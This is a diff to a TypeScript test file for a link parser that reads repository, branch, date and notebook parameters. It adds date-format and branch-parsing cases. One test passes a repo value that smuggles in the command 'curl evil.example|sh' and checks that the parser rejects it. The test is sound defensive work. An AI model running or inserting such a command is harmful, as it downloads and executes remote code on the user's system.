@@ -11,6 +11,7 @@ import {
 	type LinkDetails,
 } from './prep-link';
 import { PLATFORM_IDS } from './platform-ids';
+import { parseBranch, parseRepoUrl } from './repo';
 
 describe('parseTitle', () => {
 	test.each([
@@ -37,12 +38,29 @@ describe('parseDate', () => {
 		expect(parseDate(raw)).toEqual({ ok: true, value: raw });
 	});
 	test.each([
+		{ raw: '2026-1-5', value: '2026-01-05' },
+		{ raw: '2026/12/03', value: '2026-12-03' },
+		{ raw: '2026.12.3', value: '2026-12-03' },
+		{ raw: '15/12/2026', value: '2026-12-15' },
+		{ raw: '15.12.2026', value: '2026-12-15' },
+		{ raw: '12/15/2026', value: '2026-12-15' },
+		{ raw: '5-5-2026', value: '2026-05-05' },
+		{ raw: ' 29/02/2028 ', value: '2028-02-29' },
+	])('reads the unambiguous $raw as $value', ({ raw, value }) => {
+		expect(parseDate(raw)).toEqual({ ok: true, value });
+	});
+	test.each([
 		'2026-02-30',
 		'2027-02-29',
 		'2026-13-01',
 		'2026-00-10',
-		'2026-1-5',
 		'03/12/2026',
+		'12/03/2026',
+		'15/13/2026',
+		'15-12/2026',
+		'2026/12-03',
+		'115/12/2026',
+		'15/12/26',
 		'1999-12-31',
 		'2026-12-03T10:00',
 		'2026-12-03<x>',
@@ -71,12 +89,45 @@ describe('parseLinkParams', () => {
 		const params = new URLSearchParams({ platform: 'cocalc', repo: 'https://github.com/a/b;curl evil.example|sh', branch: 'dev' });
 		const { details, notices } = parseLinkParams(params, SETUP_KEYS);
 		expect(details).toEqual({ platform: 'cocalc', branch: 'dev' });
-		expect(notices).toEqual([{ param: 'repo', value: 'https://github.com/a/b;curl evil.example|sh', reason: 'rejected' }]);
+		expect(notices).toEqual([{ param: 'repo', value: 'https://github.com/a/b;curl evil.exampl…', reason: 'rejected' }]);
 	});
 
 	test('shows refused values without invisible characters, cut short', () => {
 		const { notices } = parseLinkParams(new URLSearchParams({ repo: `\u202E${'x'.repeat(200)}` }));
-		expect(notices[0]?.value).toMatch(/^x{50,57}…$/);
+		expect(notices[0]?.value).toBe(`${'x'.repeat(39)}…`);
+	});
+
+	test('reads the branch from a branch page address when no branch is given', () => {
+		const page = 'https://gitlab.com/acme/keras-101/-/tree/feature/x';
+		expect(parseLinkParams(new URLSearchParams({ repo: page })).details).toEqual({ repo: 'https://gitlab.com/acme/keras-101', branch: 'feature/x' });
+		expect(parseLinkParams(new URLSearchParams({ repo: page, branch: 'main' })).details).toEqual({
+			repo: 'https://gitlab.com/acme/keras-101',
+			branch: 'main',
+		});
+		// A branch the link gives, even refused, is the link's choice: the page's is not used instead.
+		expect(parseLinkParams(new URLSearchParams({ repo: page, branch: 'refs/pull/1/head' })).details).toEqual({
+			repo: 'https://gitlab.com/acme/keras-101',
+		});
+	});
+
+	test('gives the normalised forms the same prep link as the canonical one', () => {
+		const canonical = buildPrepLink('/prep/', {
+			repo: 'https://github.com/acme/keras-101',
+			branch: 'main',
+			notebook: 'notebooks/train.ipynb',
+			date: '2026-12-15',
+		});
+		for (const query of [
+			'repo=github.com/acme/keras-101/tree/main&notebook=/notebooks/train.ipynb&date=15/12/2026',
+			'repo=https://github.com/acme/keras-101/&branch=main&notebook=notebooks/train.ipynb&date=2026/12/15',
+		]) {
+			const { details, notices } = parseLinkParams(new URLSearchParams(query));
+			expect(notices).toEqual([]);
+			expect(buildPrepLink('/prep/', details)).toBe(canonical);
+		}
+		expect(buildPrepLink('/prep/', { repo: 'https://github.com/acme/keras-101/tree/main', notebook: 'notebooks/train.ipynb', date: '2026-12-15' })).toBe(
+			canonical,
+		);
 	});
 
 	test('reads a start time and zone, and refuses bad ones with a notice each', () => {
@@ -121,11 +172,12 @@ describe('buildPrepLink', () => {
 					fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9-]{0,10}$/),
 					segment,
 				)
-				.map(([host, owner, name]) => `https://${host}/${owner}/${name.endsWith('.git') ? `${name}x` : name}`),
+				.map(([host, owner, name]) => `https://${host}/${owner}/${name.endsWith('.git') ? `${name}x` : name}`)
+				.filter((url) => parseRepoUrl(url).ok),
 			branch: fc
 				.array(segment, { minLength: 1, maxLength: 3 })
 				.map((s) => s.join('/'))
-				.filter((b) => !b.endsWith('.lock')),
+				.filter((b) => parseBranch(b).ok),
 			folder: fc.array(segment, { minLength: 1, maxLength: 3 }).map((s) => s.join('/')),
 			notebook: fc.array(segment, { minLength: 0, maxLength: 2 }).map((s) => [...s, 'nb.ipynb'].join('/')),
 			title: fc
